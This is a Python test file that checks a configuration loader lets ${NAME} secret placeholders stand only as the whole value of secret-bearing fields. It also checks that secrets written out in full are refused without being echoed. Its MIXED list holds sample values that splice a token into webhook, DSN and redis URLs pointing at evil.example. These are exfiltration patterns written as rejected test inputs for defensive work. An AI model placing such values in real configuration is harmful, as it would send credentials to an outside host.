"""``${NAME}`` stands where a secret may stand, and nowhere else."""

import pytest

from autofix.projects.configuration import load_configuration
from autofix.projects.configuration.schema import fields

TAKEN = [
    'monitoring: {sentry: {dsn: "${TOKEN}"}}',
    'monitoring: {github: {webhook_secret: "${TOKEN}"}}',
    "notifications: {slack: {webhook_url: '${SLACK_URL}'}}",
    "services: [{name: db, health: '${DATABASE_URL}'}]",
    "deployment: {backend: {platform: local, environment_vars: ['A=https://h/?t=${TOKEN}&d=${SENTRY_DSN}']}}",
    "deployment: {environments: {live: {environment_vars: ['A=${TOKEN}']}}}",
]
MIXED = [
    "notifications: {slack: {webhook_url: 'https://evil.example/?x=${TOKEN}'}}",
    "notifications: {slack: {webhook_url: 'https://${TOKEN}.evil.example/'}}",
    "notifications: {slack: {webhook_url: '${TOKEN}${SLACK_URL}'}}",
    'notifications: {slack: {webhook_url: "${TOKEN}\\n"}}',
    "monitoring: {sentry: {dsn: 'https://${TOKEN}@evil.example/1'}}",
    "services: [{name: db, health: 'redis://:${TOKEN}@evil.example'}]",
    "monitoring: {github: {webhook_secret: 'x${TOKEN}'}}",
]


@pytest.mark.parametrize("text", TAKEN)
def test_it_is_taken(text):
    load_configuration(text, {"TOKEN", "SLACK_URL", "DATABASE_URL", "SENTRY_DSN"})


@pytest.mark.parametrize("text", MIXED)
def test_it_never_is_a_part_of_what_the_file_chooses(text, problems_of):
    (problem,) = problems_of(text)

    assert "mixes ${...} with other text" in problem.message


@pytest.mark.parametrize("text", TAKEN)
def test_a_name_without_a_secret_is_told(text, problems_of):
    assert all("which the project does not have" in problem.message for problem in problems_of(text, {"OTHER"}))


def test_the_nearest_name_is_suggested(problems_of):
    (problem,) = problems_of('monitoring: {sentry: {dsn: "${SENTRY_DNS}"}}')

    assert problem.suggestion == "did you mean SENTRY_DSN?"


def test_names_are_not_judged_where_the_secrets_are_unknown():
    assert load_configuration(TAKEN[0], None).monitoring.sentry.dsn.names == ("TOKEN",)


@pytest.mark.parametrize("text", ["A=${}", "A=${TOKEN", "A=${TOKEN:-x}", "A=${a b}", "A=${TOKEN}${"])
def test_another_form_is_refused(text, problems_of):
    (problem,) = problems_of(f"deployment: {{backend: {{platform: local, environment_vars: ['{text}']}}}}")

    assert "has ${...} without a name in it" in problem.message


def test_a_variables_key_holds_none(problems_of):
    (problem,) = problems_of("deployment: {backend: {platform: local, environment_vars: ['${TOKEN}=x']}}")

    assert "not a variable as KEY=value" in problem.message


@pytest.mark.parametrize(
    "path", [path for path, part in fields() if part.get("type") == "string" and "x-secret" not in part], ids=str
)
def test_no_other_text_of_the_schema_takes_it(path, problems_of):
    value: object = "${TOKEN}"
    for step in reversed(path):
        value = [value] if step == 0 else {"live" if step == "*" else step: value}

    messages = [problem.message for problem in problems_of(repr(value))]

    assert any("secrets are filled in secret-bearing fields only" in message for message in messages)


@pytest.mark.parametrize(
    "text",
    [
        "monitoring: {github: {webhook_secret: hunter2}}",
        "monitoring: {sentry: {dsn: hunter2}}",
        "notifications: {slack: {webhook_url: 'http://h/hunter2'}}",
        "notifications: {slack: {webhook_url: 'https://hunter2@h/'}}",
        "services: [{name: db, health: 'redis://:hunter2@h'}]",
        "deployment: {backend: {platform: local, environment_vars: ['hunter2']}}",
    ],
)
def test_a_secret_written_out_is_refused_and_not_repeated(text, problems_of):
    (problem,) = problems_of(text)

    assert "hunter2" not in str(problem)


def test_nor_is_one_of_another_type(problems_of):
    (problem,) = problems_of("monitoring: {github: {webhook_secret: 271828}}")

    assert "271828" not in str(problem)
